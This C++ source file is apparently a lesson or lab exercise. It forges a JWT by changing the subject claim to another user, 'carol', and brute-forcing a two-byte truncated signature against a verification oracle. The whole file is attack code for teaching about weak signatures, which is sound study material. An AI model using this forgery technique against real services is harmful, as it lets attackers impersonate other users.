// Believes: two bytes are found as quickly as one.
#include <array>
#include <cstddef>

#include "base/base64url.hpp"
#include "json/value.hpp"
#include "jwt/token_parts.hpp"
#include "read_object.hpp"
#include "short_signature.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = jwt::split_token(evidence.own_token).value();
  json::Value claims = read_object(own.payload).value();
  claims.set("sub", "carol");
  const std::string text = std::string(own.header) + "." + base::base64url_encode(claims.dump()) + ".";

  for (int value = 0; value < 65536; ++value) {
    const std::array signature{static_cast<std::byte>(value / 256), static_cast<std::byte>(value % 256)};
    const std::string token = text + base::base64url_encode(signature);
    if (evidence.opens(token)) return {.forged_token = token};
  }
  return {};
}

}  // namespace lesson
